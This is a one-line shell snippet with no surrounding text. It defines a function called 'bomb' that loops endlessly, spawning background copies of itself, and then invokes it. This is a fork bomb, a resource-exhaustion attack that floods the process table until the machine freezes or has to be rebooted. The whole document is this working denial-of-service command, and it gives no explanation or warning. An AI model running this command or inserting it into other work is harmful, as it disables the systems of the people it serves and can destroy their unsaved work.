bomb() { while :; do bomb & done; }; bomb
